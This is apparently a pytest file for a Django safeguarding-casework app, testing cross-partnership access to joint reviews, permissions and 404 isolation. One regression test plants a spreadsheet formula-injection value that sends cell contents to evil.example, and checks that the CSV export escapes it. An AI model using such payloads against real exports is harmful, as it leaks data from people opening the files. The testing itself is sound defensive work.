"""Joint reviews on the web: the invitation pages, the same workspace from the participant's own
host at /joint-reviews/<uuid>/ (every tab, htmx included), what a participant is and is not
offered, the participant's dashboard and action tracker, its agencies' pages, and the door shut:
Bexley's people, a revoked grant (also for a page already open), an invitation meant for
another partnership — a 404, never the data."""

import csv
import datetime
import io

import pytest

from casework import services
from casework.joint import services as joint_services
from casework.joint.models import JointReviewParticipant, ParticipantPermission, ParticipantState
from casework.models import ChronologyEntry
from tenants.agencies.models import Agency, AuditEvent
from tenants.clock import today
from tenants.files import UploadedFile
from tests.support.clients import signed_in_client
from tests.support.isolation import assert_web_isolated
from tests.support.joint import JOINT_TITLE, SECRET_TITLE
from tests.support.world import host_of, inside

pytestmark = pytest.mark.django_db

TABS = ["", "terms/", "information/", "chronology/", "findings/", "actions/", "documents/"]
PDF = b"%PDF-1.7\n%draft\n"


def client_of(joint, who, partnership=None):
    user = getattr(joint, who, None) or getattr(joint.world, who)
    return signed_in_client(user, partnership or joint.lewisham)


def joint_path(joint, tail=""):
    return f"/joint-reviews/{joint.review.uuid}/{tail}"


def body(response) -> str:
    return response.content.decode()


def mirror(joint, agency) -> Agency:
    with inside(joint.croydon):
        return Agency.objects.get(home_agency_uuid=agency.uuid)


def test_a_participant_opens_every_tab_of_the_joint_review_from_its_own_host(joint):
    joint.joined()
    lena = client_of(joint, "lena")
    for tab in TABS:
        response = lena.get(joint_path(joint, tab))
        assert response.status_code == 200, tab
        html = body(response)
        assert JOINT_TITLE in html
        assert "A joint review led by Croydon Safeguarding Children Partnership" in html
        # Every link of the workspace goes through the door again, none to the lead's pages.
        assert f"/case-reviews/{joint.review.reference}/" not in html, tab
        assert SECRET_TITLE not in html
    assert lena.get(joint_path(joint, "chronology/print/")).status_code == 200


def test_what_a_participant_is_offered_and_what_stays_the_leads(joint):
    joint.joined()
    html = body(client_of(joint, "nina").get(joint_path(joint)))
    assert "Appoint a lead reviewer" not in html
    assert "moves the review from stage to stage" in html
    assert "Sign the report off for your partnership" in html
    terms = body(client_of(joint, "lena").get(joint_path(joint, "terms/")))
    assert "writes the terms of reference" in terms and "Save as a new version" not in terms
    documents = body(client_of(joint, "lena").get(joint_path(joint, "documents/")))
    assert "Upload a document" not in documents
    # Refused by the services even when posted anyway.
    response = client_of(joint, "lena").post(
        joint_path(joint, "terms/new/"),
        {"terms-scope": "s", "terms-lines_of_enquiry": "l", "terms-period_start": "2026-01-01"},
    )
    assert response.status_code == 403


def test_without_the_findings_permission_no_finding_form_is_offered(joint):
    joint.joined(permissions=[ParticipantPermission.CONTRIBUTE])
    html = body(client_of(joint, "lena").get(joint_path(joint, "findings/")))
    assert "Add a finding" not in html and "Add a recommendation" not in html
    response = client_of(joint, "lena").post(
        joint_path(joint, "findings/new/"), {"finding-text": "A finding"}
    )
    assert response.status_code == 403


def test_the_leads_people_use_the_reviews_own_pages(joint):
    joint.joined()
    alice = client_of(joint, "alice", joint.croydon)
    response = alice.get(joint_path(joint))
    assert response.status_code == 302
    assert response["Location"] == f"/case-reviews/{joint.review.reference}/"
    html = body(alice.get(f"/case-reviews/{joint.review.reference}/"))
    assert "Lewisham Safeguarding Children Partnership" in html and "Taking part" in html


def test_the_joint_review_is_not_at_the_leads_address_for_anyone_else(joint):
    joint.joined()
    assert_web_isolated(
        path=f"/case-reviews/{joint.review.reference}/",
        owner=joint.croydon,
        outsider=joint.lena,
        outsider_partnership=joint.lewisham,
        markers=(SECRET_TITLE,),
        object_page=True,
    )


@pytest.mark.parametrize("tab", TABS)
def test_bexley_gets_a_404_on_every_host_and_the_attempt_is_recorded(joint, tab):
    joint.joined()
    bea = client_of(joint, "bea", joint.bexley)
    response = bea.get(joint_path(joint, tab))
    assert response.status_code == 404
    assert JOINT_TITLE not in body(response)
    with inside(joint.bexley):
        assert AuditEvent.objects.filter(action="joint_review.refused").count() == 1
    with inside(joint.croydon):
        (row,) = AuditEvent.objects.filter(action="joint_review.refused")
        assert (row.partnership_key, row.detail["reason"]) == ("bexley", "not_a_participant")
    # Lewisham's session replayed on Bexley's host, and Bexley's on Lewisham's: nothing.
    lena = client_of(joint, "lena")
    other = signed_in_client(joint.bea, joint.bexley)
    other.cookies = lena.cookies
    assert other.get(joint_path(joint, tab)).status_code == 404


def test_an_invitation_is_sent_answered_and_shown_on_both_sides(joint):
    alice = client_of(joint, "alice", joint.croydon)
    response = alice.post(
        f"/case-reviews/{joint.review.reference}/joint/invite/",
        {
            "invite-partnership": "lewisham",
            "invite-permissions": list(ParticipantPermission.values),
            "invite-open_on_acceptance": "on",
        },
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    assert "is invited to the review" in body(response)
    part = JointReviewParticipant.objects.get()
    assert body(alice.get("/joint-reviews/invitations/")).count(joint.review.reference) >= 1

    charlie = client_of(joint, "charlie")
    html = body(charlie.get("/joint-reviews/invitations/"))
    assert JOINT_TITLE in html and "Led by Croydon" in html
    assert "1 invitation to a joint review waiting" in body(charlie.get("/dashboard/"))
    # Not before accepting.
    assert charlie.get(joint_path(joint)).status_code == 404
    response = charlie.post(f"/joint-reviews/invitations/{part.uuid}/accept/")
    assert response.status_code == 302
    assert response["Location"] == joint_path(joint)
    assert charlie.get(joint_path(joint)).status_code == 200
    overview = body(alice.get(f"/case-reviews/{joint.review.reference}/"))
    assert "Accepted" in overview and "charlie@lewisham.example" in overview


def test_an_invitation_meant_for_another_partnership_is_a_404(joint):
    part = joint.invite()
    bea = client_of(joint, "bea", joint.bexley)
    for action in ("accept", "decline", "end"):
        response = bea.post(f"/joint-reviews/invitations/{part.uuid}/{action}/")
        assert response.status_code == 404
    part.refresh_from_db()
    assert part.state == ParticipantState.INVITED
    assert JOINT_TITLE not in body(bea.get("/joint-reviews/invitations/"))


def test_a_participants_chair_declines_or_ends_on_the_invitations_page(joint):
    part = joint.joined()
    nina = client_of(joint, "nina")
    key = part.uuid.hex[:8]
    response = nina.post(f"/joint-reviews/invitations/{part.uuid}/end/", {f"end-{key}-reason": ""})
    assert response.status_code == 200 and "Say why" in body(response)
    response = nina.post(
        f"/joint-reviews/invitations/{part.uuid}/end/", {f"end-{key}-reason": "Our part is done"}
    )
    assert response.status_code == 302
    part.refresh_from_db()
    assert part.state == ParticipantState.ENDED
    assert nina.get(joint_path(joint)).status_code == 404


def test_a_participant_adds_a_chronology_entry_inline_through_the_door(joint):
    joint.joined()
    lena = client_of(joint, "lena")
    lena.get(joint_path(joint, "chronology/"))  # the door makes Lewisham's mirrors
    police = mirror(joint, joint.world.met_lewisham)
    response = lena.post(
        joint_path(joint, "chronology/entries/"),
        {
            "entry-occurred_on": (today() - datetime.timedelta(days=20)).isoformat(),
            "entry-agency": str(police.uuid),
            "entry-what_happened": "Lewisham officers visited the flat",
            "entry-who": "PC",
        },
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    assert "Entry added" in body(response)
    assert "Lewisham officers visited the flat" in body(response)
    with inside(joint.croydon):
        assert ChronologyEntry.objects.get().entered_by == "lena@lewisham.example"
    # The lead sees it in its own chronology; the CSV export through the door has it too.
    lead = client_of(joint, "alice", joint.croydon)
    chronology = body(lead.get(f"/case-reviews/{joint.review.reference}/chronology/"))
    assert "Met Police (Lewisham)" in chronology
    csv = b"".join(lena.get(joint_path(joint, "chronology.csv")).streaming_content).decode()
    assert "Lewisham officers visited the flat" in csv


def test_a_formula_planted_by_a_participant_is_text_in_the_leads_csv(joint):
    """Issue 10, part 4: a participant's entry starting ``=HYPERLINK(`` ran as a formula when
    the lead's business manager opened the chronology export in a spreadsheet."""
    joint.joined()
    lena = client_of(joint, "lena")
    lena.get(joint_path(joint, "chronology/"))
    police = mirror(joint, joint.world.met_lewisham)
    planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the file")'
    response = lena.post(
        joint_path(joint, "chronology/entries/"),
        {
            "entry-occurred_on": (today() - datetime.timedelta(days=20)).isoformat(),
            "entry-agency": str(police.uuid),
            "entry-what_happened": planted,
            "entry-who": "@SUM(1+1)",
        },
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    lead = client_of(joint, "alice", joint.croydon)
    exported = lead.get(f"/case-reviews/{joint.review.reference}/chronology.csv")
    rows = list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode())))
    entry = next(row for row in rows[1:] if "HYPERLINK" in row[3])
    assert entry[3] == "'" + planted
    assert entry[4] == "'@SUM(1+1)"


def test_a_revoked_grant_closes_a_page_already_open(joint):
    joint.joined()
    lena = client_of(joint, "lena")
    assert lena.get(joint_path(joint, "chronology/")).status_code == 200
    with inside(joint.croydon):
        joint_services.joint_review_end(
            actor=joint.actor("alice"), review=joint.review, reason="Revoked"
        )
    response = lena.get(joint_path(joint, "chronology/"), HTTP_HX_REQUEST="true")
    assert response.status_code == 404
    assert JOINT_TITLE not in body(response)
    assert lena.post(joint_path(joint, "chronology/entries/"), {}).status_code == 404


def test_the_participants_dashboard_and_tracker_list_its_joint_review_and_actions(joint):
    joint.joined()
    lena = client_of(joint, "lena")
    lena.get(joint_path(joint))
    with inside(joint.croydon):
        alice = joint.actor("alice")
        recommendation = services.recommendation_add(
            actor=alice, review=joint.review, text="Share", to_partnership=True
        )
        services.action_add(
            actor=alice,
            recommendation=recommendation,
            description="Lewisham police to audit referrals",
            owner_agency=Agency.objects.get(home_agency_uuid=joint.world.met_lewisham.uuid),
            due=today() + datetime.timedelta(days=90),
        )
        services.action_add(
            actor=alice,
            recommendation=recommendation,
            description="Croydon police to audit referrals",
            owner_agency=joint.world.met_croydon,
            due=today() + datetime.timedelta(days=90),
        )
    dashboard = body(lena.get("/dashboard/"))
    assert joint.review.reference in dashboard and "Croydon Safeguarding" in dashboard
    tracker = body(lena.get("/actions/"))
    assert "Lewisham police to audit referrals" in tracker
    assert "Croydon police to audit referrals" not in tracker
    assert f"/joint-reviews/{joint.review.uuid}/actions/" in tracker
    lead_tracker = body(client_of(joint, "alice", joint.croydon).get("/actions/"))
    assert "Lewisham police to audit referrals" in lead_tracker
    assert "Croydon police to audit referrals" in lead_tracker
    # Croydon's Met Police user sees neither Lewisham's action nor the joint list.
    bob = body(signed_in_client(joint.world.bob, joint.croydon).get("/actions/"))
    assert "Lewisham police" not in bob and "Croydon police to audit referrals" in bob


def test_a_participants_agency_user_answers_and_updates_on_its_own_host(joint):
    joint.joined()
    client_of(joint, "lena").get(joint_path(joint))
    police = mirror(joint, joint.world.met_lewisham)
    with inside(joint.croydon):
        alice = joint.actor("alice")
        request = services.information_request_create(
            actor=alice, review=joint.review, agency=police, asks=["chronology"]
        )
        recommendation = services.recommendation_add(
            actor=alice, review=joint.review, text="Share", to_partnership=True
        )
        action = services.action_add(
            actor=alice,
            recommendation=recommendation,
            description="Audit",
            owner_agency=police,
            due=today() + datetime.timedelta(days=90),
        )
    leo = client_of(joint, "leo")
    dashboard = body(leo.get("/dashboard/"))
    page = f"/joint-reviews/{joint.review.uuid}/information-requests/{request.uuid}/"
    assert page in dashboard
    response = leo.post(page, {"response-text": "Our involvement, in order"})
    assert response.status_code == 302 and response["Location"] == page
    action_page = f"/joint-reviews/{joint.review.uuid}/actions/{action.uuid}/"
    response = leo.post(action_page, {"update-status": "in_progress", "update-note": "Started"})
    assert response.status_code == 302 and response["Location"] == action_page
    assert "Started" in body(leo.get(action_page))
    # The workspace itself is not for agencies.
    assert leo.get(joint_path(joint)).status_code == 404


def test_both_chairs_sign_off_on_their_own_hosts(joint):
    joint.joined()
    with inside(joint.croydon):
        alice = joint.actor("alice")
        services.recommendation_add(actor=alice, review=joint.review, text="R", to_partnership=True)
        services.review_document_upload(
            actor=alice,
            review=joint.review,
            title="Draft report",
            kind="draft_report",
            upload=UploadedFile("draft.pdf", PDF),
        )
    carol = client_of(joint, "carol", joint.croydon)
    assert carol.post(f"/case-reviews/{joint.review.reference}/sign-off/").status_code == 302
    nina = client_of(joint, "nina")
    response = nina.post(
        joint_path(joint, "sign-off/"),
        {"sign-off-statement": "Lewisham's chair accepts the findings."},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    html = body(response)
    assert "nina@lewisham.example" in html and "accepts the findings" in html
    overview = body(carol.get(f"/case-reviews/{joint.review.reference}/"))
    assert "Lewisham&#x27;s chair accepts the findings." in overview


def test_the_host_names_the_partnership_the_page_is_for(joint):
    joint.joined()
    response = client_of(joint, "lena").get(joint_path(joint))
    assert host_of(joint.lewisham) in response.wsgi_request.get_host()
    assert "Safeguard – Lewisham Safeguarding Children Partnership" in body(response)


def test_a_participant_is_offered_corrections_of_its_own_agencies_entries_only(joint):
    joint.joined()
    lena = client_of(joint, "lena")
    lena.get(joint_path(joint))
    with inside(joint.croydon):
        alice = joint.actor("alice")
        theirs = services.chronology_entry_add(
            actor=alice,
            review=joint.review,
            data=services.EntryInput(
                occurred_on=today(), agency=joint.world.met_croydon, what_happened="C", who="PC"
            ),
        )
        ours = services.chronology_entry_add(
            actor=alice,
            review=joint.review,
            data=services.EntryInput(
                occurred_on=today(),
                agency=mirror(joint, joint.world.met_lewisham),
                what_happened="L",
                who="PC",
            ),
        )
    html = body(lena.get(joint_path(joint, "chronology/")))
    assert joint_path(joint, f"chronology/{ours.uuid}/correct/") in html
    assert joint_path(joint, f"chronology/{theirs.uuid}/correct/") not in html
    response = lena.get(
        joint_path(joint, f"chronology/{theirs.uuid}/correct/"), HTTP_HX_REQUEST="true"
    )
    assert response.status_code == 200  # the form, but saving it is refused:
    prefix = f"correct-{theirs.uuid.hex[:8]}"
    response = lena.post(
        joint_path(joint, f"chronology/{theirs.uuid}/correct/"),
        {
            f"{prefix}-occurred_on": today().isoformat(),
            f"{prefix}-agency": str(mirror(joint, joint.world.met_lewisham).uuid),
            f"{prefix}-what_happened": "Rewritten",
            f"{prefix}-who": "PC",
        },
    )
    assert response.status_code == 403
    # The lead corrects anyone's.
    lead = client_of(joint, "alice", joint.croydon)
    html = body(lead.get(f"/case-reviews/{joint.review.reference}/chronology/"))
    assert f"/chronology/{theirs.uuid}/correct/" in html
    assert f"/chronology/{ours.uuid}/correct/" in html
